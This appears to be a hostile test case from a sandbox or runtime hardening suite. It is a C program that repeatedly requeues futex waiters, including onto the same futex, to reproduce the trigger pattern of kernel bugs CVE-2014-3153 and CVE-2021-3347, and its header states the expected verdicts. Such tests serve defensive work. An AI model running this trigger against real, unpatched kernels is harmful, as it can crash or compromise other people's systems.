/*
 * hostile: moves waiters between futexes, to themselves too (as CVE-2014-3153, CVE-2021-3347)
 * class: known faults of kernels and runtimes
 * verdicts: AC SV
 * evidence: syscall:futex
 * invariant: the kernel's log has no complaint; who waits is killed with the box
 */
#define _GNU_SOURCE
#include <linux/futex.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static uint32_t first, second;

static void *wait_for(void *unused)
{
	struct timespec end;

	(void)clock_gettime(CLOCK_MONOTONIC, &end);
	end.tv_nsec += 200000000;
	end.tv_sec += end.tv_nsec / 1000000000;
	end.tv_nsec %= 1000000000;
	(void)syscall(SYS_futex, &first, FUTEX_WAIT_REQUEUE_PI, 0, &end, &second, 0);
	return unused;
}

int main(void)
{
	pthread_t threads[4];

	for (int i = 0; i < 4; i++)
		if (pthread_create(&threads[i], NULL, wait_for, NULL) != 0)
			return 1;
	(void)usleep(20000);
	for (int i = 0; i < 1000; i++) {
		(void)syscall(SYS_futex, &second, FUTEX_LOCK_PI, 0, NULL, NULL, 0);
		(void)syscall(SYS_futex, &first, FUTEX_CMP_REQUEUE_PI, 1, 1, &second, 0);
		second = 0;
		(void)syscall(SYS_futex, &second, FUTEX_CMP_REQUEUE_PI, 1, 1, &second, 0);
		(void)syscall(SYS_futex, &second, FUTEX_UNLOCK_PI, 0, NULL, NULL, 0);
	}
	for (int i = 0; i < 4; i++)
		(void)pthread_join(threads[i], NULL);
	puts("held");
	return 0;
}
